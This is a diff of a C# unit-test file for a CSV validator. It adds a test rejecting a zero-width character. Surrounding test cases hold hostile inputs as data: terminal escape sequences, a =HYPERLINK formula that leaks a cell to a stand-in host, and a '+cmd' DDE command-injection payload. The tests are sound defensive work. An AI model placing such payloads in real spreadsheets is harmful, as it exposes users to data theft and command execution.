@@ -296,6 +296,7 @@ public sealed class CsvTests(MaintainerApi api) : IClassFixture<MaintainerApi>
     [InlineData("printed_name,city\nGood,\u2067Boston\u2069\n", "line 2: city contains the bidirectional control U+2067")]
     [InlineData("printed_name\n\"\u001B]0;owned\u0007\u001B[2JName\"\n", "line 2: printed_name contains the control character U+001B")]
     [InlineData("printed_name\n\"Name \u009B31m\"\n", "line 2: printed_name contains the control character U+009B")]
+    [InlineData("printed_name\nGood\nZero\u200Bwidth\n", "line 3: printed_name contains the zero-width character U+200B; remove it.")]
     [InlineData("printed_name\nComit\uFFFD de Apoyo\n", "line 2: printed_name contains U+FFFD")]
     [InlineData("printed_name\nGood\n\"=HYPERLINK(\"\"http://x/?leak=\"\"&A1,\"\"y\"\")\"\n", "line 3: printed_name starts with \"=\", which spreadsheets run as a formula")]
     [InlineData("printed_name\n+cmd|' /C calc'!A0\n", "line 2: printed_name starts with \"+\"")]
